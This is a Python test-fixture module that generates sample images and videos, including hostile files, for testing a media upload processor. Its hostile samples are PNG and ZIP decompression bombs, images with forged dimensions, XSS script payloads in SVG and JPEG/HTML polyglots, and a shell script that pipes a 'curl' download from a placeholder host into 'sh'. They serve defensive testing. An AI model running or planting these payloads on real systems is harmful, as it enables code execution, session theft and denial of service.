"""Sample media made on the fly for the media tests and benchmarks; no binary fixtures are committed.

Every function writes one file into the given path and returns that path. Filenames are chosen
by the caller, which is how tests show that names are never trusted (an ELF called ``photo.jpg``).
Photos are synthetic but photo-like (shapes, gradients, grain), deterministic for a given seed.
Videos are made with the ffmpeg binary of ``imageio-ffmpeg`` from its test sources.
``process`` and ``rendition_image`` run a file through ``assets.media`` the way an upload is.
"""

from __future__ import annotations

import io
import random
import struct
import subprocess
import zipfile
import zlib
from functools import cache
from pathlib import Path

from PIL import ExifTags, Image, ImageDraw

from assets import media

SECRET_COMMENT = b"secret-comment-from-the-camera"
TRAILING_PAYLOAD = b"PK\x03\x04<script>alert('appended payload')</script>"
MARKER_RGB = (255, 0, 0)  # the block drawn in the stored top-left corner of ``jpeg_12mp``


# --- Pictures --------------------------------------------------------------------------------


def photo(size: tuple[int, int], seed: int = 0) -> Image.Image:
    """A photo-like RGB image: a random gradient, large shapes, and grain. Same seed, same image."""
    rnd = random.Random(seed)
    small_w = 320
    small_h = max(1, round(small_w * size[1] / size[0]))
    top = tuple(rnd.randrange(256) for _ in range(3))
    bottom = tuple(rnd.randrange(256) for _ in range(3))
    gradient = Image.linear_gradient("L").resize((small_w, small_h)).rotate(rnd.choice((0, 90, 180, 270)))
    base = Image.composite(
        Image.new("RGB", (small_w, small_h), top), Image.new("RGB", (small_w, small_h), bottom), gradient
    )
    draw = ImageDraw.Draw(base)
    for _ in range(14):
        x0, y0 = rnd.randrange(-60, small_w), rnd.randrange(-60, small_h)
        x1, y1 = x0 + rnd.randrange(30, 200), y0 + rnd.randrange(30, 200)
        colour = tuple(rnd.randrange(256) for _ in range(3))
        if rnd.random() < 0.5:
            draw.ellipse((x0, y0, x1, y1), fill=colour)
        else:
            draw.rectangle((x0, y0, x1, y1), fill=colour)
    image = base.resize(size, Image.Resampling.BILINEAR)
    return _add_grain(image, rnd)


def _add_grain(image: Image.Image, rnd: random.Random, amount: float = 0.08) -> Image.Image:
    tile_side = min(512, *image.size)
    tile = Image.frombytes("RGB", (tile_side, tile_side), rnd.randbytes(tile_side * tile_side * 3))
    grain = Image.new("RGB", image.size)
    for x in range(0, image.width, tile_side):
        for y in range(0, image.height, tile_side):
            grain.paste(tile, (x, y))
    return Image.blend(image, grain, amount)


def jpeg(path: Path, size: tuple[int, int] = (1600, 1200), *, seed: int = 0, quality: int = 90) -> Path:
    photo(size, seed).save(path, "JPEG", quality=quality)
    return path


def jpeg_12mp(path: Path, *, orientation: int = 6, seed: int = 12) -> Path:
    """4000x3000 camera-like JPEG (~3 MB) with EXIF orientation, GPS and camera tags, a JPEG comment
    and bytes appended after the end-of-image marker. The stored top-left corner has a red block."""
    image = photo((4000, 3000), seed)
    ImageDraw.Draw(image).rectangle((0, 0, 499, 499), fill=MARKER_RGB)
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "PersonaeCam"
    exif[ExifTags.Base.Model] = "Model 12"
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (52.0, 22.0, 12.5),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (4.0, 53.0, 38.1),
    }
    image.save(path, "JPEG", quality=90, exif=exif, comment=SECRET_COMMENT)
    with path.open("ab") as fh:
        fh.write(TRAILING_PAYLOAD)
    return path


def png_alpha(path: Path, size: tuple[int, int] = (640, 480)) -> Path:
    """Transparent background whose hidden colour is black, with an opaque red disc in the middle."""
    image = Image.new("RGBA", size, (0, 0, 0, 0))
    w, h = size
    ImageDraw.Draw(image).ellipse((w // 4, h // 4, 3 * w // 4, 3 * h // 4), fill=(220, 20, 20, 255))
    image.save(path, "PNG")
    return path


def png_palette_transparent(path: Path, size: tuple[int, int] = (200, 120)) -> Path:
    """A palette PNG: left half opaque blue, right half the transparent index (whose colour is black)."""
    image = Image.new("P", size, 0)
    image.putpalette([0, 0, 0, 0, 0, 255] + [0] * (256 * 3 - 6))
    ImageDraw.Draw(image).rectangle((0, 0, size[0] // 2, size[1]), fill=1)
    image.save(path, "PNG", transparency=0)
    return path


def png_16bit_gray(path: Path, size: tuple[int, int] = (256, 64)) -> Path:
    """A 16-bit grayscale ramp from black to white (naive 8-bit conversion would clip it to white)."""
    image = Image.new("I;16", size)
    image.putdata([round(x * 65535 / (size[0] - 1)) for _y in range(size[1]) for x in range(size[0])])
    image.save(path, "PNG")
    return path


def swapped_rgb_profile() -> bytes:
    """A valid ICC profile like sRGB but with the red and blue primaries swapped (and not named
    sRGB): pixels stored as pure red are meant to be shown blue, so only colour management gets
    it right."""
    from PIL import ImageCms

    data = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes())
    (count,) = struct.unpack(">I", data[128:132])
    tags = {}
    for i in range(count):
        signature, offset, size = struct.unpack(">4sII", data[132 + 12 * i : 144 + 12 * i])
        tags[signature] = (offset, size)
    (red_at, red_size), (blue_at, blue_size) = tags[b"rXYZ"], tags[b"bXYZ"]
    red, blue = bytes(data[red_at : red_at + red_size]), bytes(data[blue_at : blue_at + blue_size])
    data[red_at : red_at + red_size], data[blue_at : blue_at + blue_size] = blue, red
    return bytes(data).replace("sRGB".encode("utf-16-be"), "Swap".encode("utf-16-be")).replace(b"sRGB", b"Swap")


def red_jpeg_with_swapped_profile(path: Path, size: tuple[int, int] = (320, 240)) -> Path:
    Image.new("RGB", size, (255, 0, 0)).save(path, "JPEG", quality=95, icc_profile=swapped_rgb_profile())
    return path


def red_png_alpha_with_swapped_profile(path: Path) -> Path:
    png_alpha(path)
    Image.open(path).save(path, "PNG", icc_profile=swapped_rgb_profile())
    return path


def heif_generic(path: Path) -> Path:
    """A HEIC re-branded as generic HEIF (``mif1`` with no ``heic`` brand), as some cameras write."""
    heic(path)
    data = bytearray(path.read_bytes())
    data[8:12] = b"mif1"
    at = data.find(b"heic", 12, 64)
    data[at : at + 4] = b"mif1"
    path.write_bytes(bytes(data))
    return path


def cmyk_jpeg(path: Path, size: tuple[int, int] = (300, 200)) -> Path:
    Image.new("CMYK", size, (0, 255, 255, 0)).save(path, "JPEG", quality=90)  # red in CMYK
    return path


def webp(path: Path, size: tuple[int, int] = (800, 600), *, seed: int = 0, quality: int = 80) -> Path:
    photo(size, seed).save(path, "WEBP", quality=quality)
    return path


def heic(path: Path, size: tuple[int, int] = (240, 160), *, seed: int = 0, orientation: int | None = None) -> Path:
    import pillow_heif

    pillow_heif.register_heif_opener()
    image = photo(size, seed)
    params = {}
    if orientation:
        exif = Image.Exif()
        exif[ExifTags.Base.Orientation] = orientation
        params["exif"] = exif.tobytes()
    image.save(path, "HEIF", quality=60, **params)
    return path


def avif(path: Path, size: tuple[int, int] = (64, 48)) -> Path:
    photo(size).save(path, "AVIF", quality=50, speed=10)
    return path


def gif(path: Path) -> Path:
    photo((64, 48)).convert("P").save(path, "GIF")
    return path


def tiny_jpeg(path: Path, size: tuple[int, int] = (200, 120)) -> Path:
    """Smaller than both renditions: they must keep its size (no upscaling)."""
    return jpeg(path, size, seed=3)


# --- Bombs and broken images -----------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_bomb(path: Path, width: int = 10_000, height: int = 10_000) -> Path:
    """A valid, tiny (~12 KB) black 1-bit PNG that decodes to ``width`` x ``height`` pixels
    (100 megapixels by default: ~100 MB in Pillow as mode "1", ~300 MB as RGB)."""
    row = b"\x00" * (1 + (width + 7) // 8)  # filter byte + packed bits
    compressor = zlib.compressobj(9)
    rows_per_chunk = 256
    parts = []
    for start in range(0, height, rows_per_chunk):
        parts.append(compressor.compress(row * min(rows_per_chunk, height - start)))
    parts.append(compressor.flush())
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit grayscale
    data = (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", b"".join(parts))
        + _png_chunk(b"IEND", b"")
    )
    path.write_bytes(data)
    return path


def png_declaring(path: Path, width: int, height: int) -> Path:
    """A PNG header declaring any size (e.g. 65535 x 65535) followed by a token IDAT."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)  # 8-bit RGB
    data = (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + _png_chunk(b"IEND", b"")
    )
    path.write_bytes(data)
    return path


def jpeg_declaring(path: Path, width: int, height: int) -> Path:
    """A small real JPEG whose frame header (SOF0) is patched to declare ``width`` x ``height``."""
    import io

    buffer = io.BytesIO()
    photo((64, 48)).save(buffer, "JPEG", quality=80)
    data = bytearray(buffer.getvalue())
    sof = data.find(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, height, width)  # marker, length(2), precision(1), then H, W
    path.write_bytes(bytes(data))
    return path


def heic_declaring(path: Path, width: int, height: int) -> Path:
    """A small real HEIC whose ``ispe`` (image spatial extent) box declares ``width`` x ``height``."""
    heic(path, (96, 64))  # a size x265 needs no padding for: no ``clap`` crop box overriding ``ispe``
    data = bytearray(path.read_bytes())
    assert b"clap" not in data
    at = data.find(b"ispe")
    struct.pack_into(">II", data, at + 8, width, height)  # type(4), version+flags(4), then W, H
    path.write_bytes(bytes(data))
    return path


def png_wide(path: Path, width: int = 20_000, height: int = 50) -> Path:
    """1 megapixel, but wider than the longest-side limit."""
    return png_bomb(path, width, height)


def truncated_jpeg(path: Path) -> Path:
    jpeg(path, (1200, 900), seed=5)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) * 6 // 10])
    return path


def truncated_png(path: Path) -> Path:
    photo((600, 400), seed=6).save(path, "PNG")
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return path


def polyglot_jpeg_html(path: Path) -> Path:
    """A JPEG with an HTML page inside its comment and after its end: decoders see a photo."""
    photo((320, 240), seed=8).save(path, "JPEG", quality=85, comment=b"<html><script>alert(1)</script>")
    with path.open("ab") as fh:
        fh.write(b"<html><body><script>alert(document.cookie)</script></body></html>")
    return path


# --- Things that aren't images or videos -----------------------------------------------------


def elf(path: Path) -> Path:
    """An ELF executable header (x86-64), as a renamed Linux program would start."""
    header = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHI", 2, 0x3E, 1) + b"\x00" * 40
    path.write_bytes(header + b"\x00" * 4096)
    return path


def windows_exe(path: Path) -> Path:
    path.write_bytes(
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
        + b"\x00" * 50
        + b"This program cannot be run in DOS mode."
    )
    return path


def shell_script(path: Path) -> Path:
    path.write_bytes(b"#!/bin/sh\ncurl -s https://example.invalid/x | sh\n")
    return path


def svg_with_script(path: Path) -> Path:
    path.write_text(
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">\n'
        "  <script>alert(document.domain)</script>\n"
        '  <rect width="100" height="100" fill="red"/>\n'
        "</svg>\n"
    )
    return path


def svg_utf16(path: Path) -> Path:
    path.write_bytes('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'.encode("utf-16"))
    return path


def html_page(path: Path) -> Path:
    path.write_text("<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>\n")
    return path


def text_file(path: Path) -> Path:
    path.write_text("Shopping list:\n- milk\n- eggs\n")
    return path


def empty(path: Path) -> Path:
    path.write_bytes(b"")
    return path


def zip_bomb_heic(path: Path, megabytes: int = 16) -> Path:
    """A ZIP (named as the caller likes, e.g. IMG_0001.heic) holding ``megabytes`` of zeros in ~16 KB."""
    with (
        zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("IMG_0001.heic", "w") as member,
    ):
        chunk = b"\x00" * (1024 * 1024)
        for _ in range(megabytes):
            member.write(chunk)
    return path


def pdf(path: Path) -> Path:
    path.write_bytes(b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
    return path


# --- Videos ----------------------------------------------------------------------------------


@cache
def ffmpeg_exe() -> str:
    import imageio_ffmpeg

    return imageio_ffmpeg.get_ffmpeg_exe()


def _ffmpeg(*args: str, stdout=None) -> None:
    subprocess.run(
        [ffmpeg_exe(), "-hide_banner", "-loglevel", "error", "-nostdin", "-y", *args],
        check=True,
        timeout=120,
        stdout=stdout,
        stdin=subprocess.DEVNULL,
    )


def _test_pattern(size: str, rate: str, seconds: float) -> list[str]:
    return ["-f", "lavfi", "-i", f"testsrc=size={size}:rate={rate}:duration={seconds}"]


def _tone(seconds: float) -> list[str]:
    return ["-f", "lavfi", "-i", f"sine=frequency=440:sample_rate=22050:duration={seconds}"]


_H264 = ["-c:v", "libx264", "-preset", "ultrafast", "-pix_fmt", "yuv420p"]


def mp4(path: Path, *, size: str = "320x240", seconds: float = 2, rate: int = 10, audio: bool = True) -> Path:
    args = _test_pattern(size, str(rate), seconds) + (_tone(seconds) if audio else [])
    _ffmpeg(*args, *_H264, *(["-c:a", "aac"] if audio else []), "-f", "mp4", str(path))
    return path


def mov(path: Path, *, size: str = "320x240", seconds: float = 2) -> Path:
    _ffmpeg(*_test_pattern(size, "10", seconds), *_H264, "-f", "mov", str(path))
    return path


_VP8 = ["-c:v", "libvpx", "-deadline", "realtime", "-cpu-used", "8", "-b:v", "300k"]


def webm(path: Path, *, size: str = "320x240", seconds: float = 2) -> Path:
    _ffmpeg(*_test_pattern(size, "10", seconds), *_VP8, "-f", "webm", str(path))
    return path


def webm_without_duration(path: Path, *, seconds: float = 2) -> Path:
    """A live-streamed WebM (as browsers' MediaRecorder writes): no duration in its header."""
    with path.open("wb") as fh:
        _ffmpeg(*_test_pattern("320x240", "10", seconds), *_VP8, "-live", "1", "-f", "webm", "pipe:1", stdout=fh)
    return path


def mkv(path: Path) -> Path:
    _ffmpeg(*_test_pattern("160x120", "10", 1), *_H264, "-f", "matroska", str(path))
    return path


def long_video(path: Path, *, seconds: int = 3 * 3600) -> Path:
    """A real ``seconds``-long MP4 made in milliseconds: 32x32 px, one frame a minute."""
    _ffmpeg("-f", "lavfi", "-i", f"color=c=gray:size=32x32:rate=1/60:duration={seconds}", *_H264, str(path))
    return path


def wide_video(path: Path, *, width: int = 4400, height: int = 64) -> Path:
    _ffmpeg(
        "-f", "lavfi", "-i", f"color=c=blue:size={width}x{height}:rate=1:duration=1", *_H264, "-f", "mp4", str(path)
    )
    return path


def audio_only(path: Path, *, seconds: float = 1) -> Path:
    """An MP4 (brand isom, like a video) holding only sound."""
    _ffmpeg(*_tone(seconds), "-c:a", "aac", "-f", "mp4", str(path))
    return path


def m4a(path: Path) -> Path:
    _ffmpeg(*_tone(1), "-c:a", "aac", "-f", "ipod", str(path))
    return path


def many_streams(path: Path, *, audio_tracks: int = 20) -> Path:
    """A short MP4 with one video and ``audio_tracks`` silent audio tracks."""
    maps = ["-map", "0:v"] + ["-map", "1:a"] * audio_tracks
    _ffmpeg(
        *_test_pattern("160x120", "10", 1),
        *("-f", "lavfi", "-i", "anullsrc=sample_rate=8000:channel_layout=mono"),
        *maps,
        *_H264,
        *("-c:a", "aac", "-t", "1", "-f", "mp4", str(path)),
    )
    return path


def rotated_mp4(path: Path, *, rotation: int = 90) -> Path:
    """A 320x240 MP4 whose display matrix says rotate, as phones record portrait video."""
    source = path.with_name(path.stem + "-unrotated.mp4")
    mp4(source)
    _ffmpeg("-display_rotation", str(rotation), "-i", str(source), "-c", "copy", "-f", "mp4", str(path))
    source.unlink()
    return path


def truncated_mp4(path: Path) -> Path:
    """The first 40% of an MP4 whose index (moov) is at the end: unplayable."""
    mp4(path, seconds=3)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) * 4 // 10])
    return path


def garbage_mp4(path: Path) -> Path:
    """An MP4 ``ftyp`` box followed by noise."""
    ftyp = struct.pack(">I", 24) + b"ftypisom" + b"\x00\x00\x02\x00" + b"isommp41"
    path.write_bytes(ftyp + random.Random(9).randbytes(20_000))
    return path


def video_1080p(path: Path, *, seconds: float = 5) -> Path:
    """1920x1080 at 30 fps with sound, a keyframe every 2 s, as a phone would record."""
    _ffmpeg(
        "-f",
        "lavfi",
        "-i",
        f"testsrc2=size=1920x1080:rate=30:duration={seconds}",
        *_tone(seconds),
        "-c:v",
        "libx264",
        "-preset",
        "veryfast",
        "-g",
        "60",
        "-pix_fmt",
        "yuv420p",
        "-c:a",
        "aac",
        "-f",
        "mp4",
        str(path),
    )
    return path


# --- Processing, as an upload is processed -----------------------------------------------------


def process(path: Path):
    """Sniff the file, then process it as the image or video it really is."""
    sniffed = media.sniff(path)
    if sniffed.kind == "image":
        return media.process_image(path, sniffed)
    return media.process_video(path, sniffed)


def rendition_image(rendition: media.Rendition) -> Image.Image:
    image = Image.open(io.BytesIO(rendition.data))
    image.load()
    return image
